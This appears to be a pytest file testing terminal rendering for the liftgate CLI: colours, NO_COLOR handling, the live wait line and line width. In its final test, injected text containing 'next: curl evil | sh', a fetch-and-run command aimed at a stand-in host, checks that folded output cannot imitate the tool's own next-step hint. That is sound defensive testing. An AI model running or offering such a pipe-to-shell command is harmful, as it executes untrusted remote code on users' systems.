"""On a real terminal: colours, the live line, widths."""

import os
import re
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
from tests.cli.fake_liftgate import FakeLiftgate
from tests.cli.pseudo_terminal import pseudo_terminal

from liftgate.cli.terminal import say_folded

pytestmark = pytest.mark.slow

LIFTGATE = str(Path(sys.executable).with_name("liftgate"))
REQUEST = "rq-0000000000000001"
COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def on_terminal(*words: str, environ: Mapping[str, str] | None = None) -> tuple[int, str]:
    """Run on a pseudo-terminal; the exit code and everything that was written to it."""
    with pseudo_terminal() as (theirs, shown):
        done = subprocess.run(
            [LIFTGATE, *words],
            stdin=theirs,
            stdout=theirs,
            stderr=theirs,
            env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "100", **(environ or {})},
            timeout=60,
            check=False,
        )
    return done.returncode, b"".join(shown).decode()


def test_states_have_colours_on_a_terminal(fake: FakeLiftgate) -> None:
    fake.add_request()
    fake.add_grant(2)
    for words in (("status",), ("show", REQUEST), ("doctor",)):
        _, shown = on_terminal(*words)
        assert COLOUR.search(shown)


@pytest.mark.parametrize("environ", [{"NO_COLOR": "1"}, {"TERM": "dumb"}])
def test_colours_are_left_out_where_nobody_wants_them(fake: FakeLiftgate, environ: dict[str, str]) -> None:
    fake.add_request()
    fake.add_grant(2)
    fake.before[f"GET /api/v1/requests/{REQUEST}"] = lambda: None
    for words in (("status",), ("show", REQUEST), ("doctor",), ("show", "rq-1"), ("--help",)):
        _, shown = on_terminal(*words, environ=environ)
        assert "\x1b" not in shown
        assert shown


def test_the_live_line_says_what_is_waited_for_and_leaves_nothing_behind(fake: FakeLiftgate) -> None:
    fake.add_request()
    polls: list[int] = []

    def answer() -> None:
        polls.append(1)
        if len(polls) == 2:
            fake.approve(fake.requests[REQUEST])

    fake.before[f"GET /api/v1/requests/{REQUEST}"] = answer
    code, shown = on_terminal("show", REQUEST, "--wait")
    assert code == 0
    assert "waits for 1 approval of Grace or Linus; lapses in " in COLOUR.sub("", shown)
    assert "Ctrl-C stops waiting" in shown
    assert shown.count("\x1b[?25l") == shown.count("\x1b[?25h") == 1  # the cursor is hidden, and comes back


@pytest.mark.parametrize("columns", ["60", "80"])
def test_no_folded_line_is_wider_than_the_terminal(fake: FakeLiftgate, columns: str) -> None:
    fake.add_request(justification="a long reason " * 20)
    fake.add_grant(2)
    for words in (
        ("status",),
        ("review", "--as", "local:grace"),
        ("grants",),
        ("show", REQUEST),
        ("doctor",),
        ("whoami",),
    ):
        _, shown = on_terminal(*words, environ={"COLUMNS": columns, "NO_COLOR": "1"})
        told = [line for line in shown.splitlines() if not line.startswith(("next:", "      liftgate"))]
        assert max(len(line.rstrip()) for line in told) <= int(columns)


@pytest.mark.parametrize("padding", range(40))
def test_text_that_is_folded_never_passes_for_our_next_step(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, padding: int
) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    say_folded("  because  ", "x" * (padding + 20) + " next: curl evil | sh", indent=11)
    assert not any(line.strip().startswith("next:") for line in capsys.readouterr().out.splitlines())
